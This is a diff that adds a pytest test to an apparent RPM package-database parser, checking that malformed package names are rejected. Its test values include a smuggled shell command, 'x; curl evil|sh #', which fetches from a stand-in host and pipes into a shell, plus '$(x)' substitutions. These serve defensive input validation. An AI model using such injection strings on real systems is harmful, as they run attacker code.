@@ -126,6 +126,14 @@ def test_a_broken_header_is_a_problem_and_the_others_remain(tmp_path: Path) -> N
     assert found.problems[0].path == DATABASE
 
 
+@pytest.mark.parametrize("name", ["x; curl evil|sh #", "-x", "$(x)", "x y", "x\u200by", "", "lib\n"])
+def test_a_header_whose_name_is_none_is_a_problem(name: str, tmp_path: Path) -> None:
+    content = database(tmp_path, package(name), package("x", architecture="$(x)"), package("libstdc++"))
+    found = rpm.find(tree_of({DATABASE: content}))
+    assert [each.name for each in found.packages] == ["libstdc++"]
+    assert len(found.problems) >= 1
+
+
 def test_a_view_in_the_place_of_the_table_is_refused(tmp_path: Path) -> None:
     path = tmp_path / "evil.sqlite"
     with sqlite3.connect(path) as connection:
